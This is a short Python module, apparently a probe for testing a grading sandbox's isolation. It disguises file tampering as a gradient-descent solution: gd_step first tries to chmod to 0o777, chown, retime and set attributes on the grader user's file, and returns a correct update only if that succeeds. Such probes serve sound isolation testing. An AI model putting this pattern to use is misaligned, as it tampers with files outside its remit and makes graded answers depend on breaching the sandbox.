"""Change mode, owner, times and attributes of a file of the grader's user.

functions: gd_step
"""

import os

import numpy as np


def attack():
    changed = False
    for change in (
        lambda path: os.chmod(path, 0o777),
        lambda path: os.chown(path, os.getuid(), os.getgid()),
        lambda path: os.utime(path, (1, 1)),
        lambda path: os.setxattr(path, "user.hostile", b"1"),
    ):
        try:
            change("@VICTIM_FILE@")
            changed = True
        except OSError:
            continue
    return changed


def gd_step(W, X, y, lr, l1=0.0):
    """Answer rightly only if the attack got what it wanted."""
    try:
        won = attack()
    except Exception as error:
        print(type(error).__name__, error)
        won = False
    if won:
        return W - lr * (2 * X.T @ (X @ W - y) + l1 * np.sign(W))
    return W * 0.0
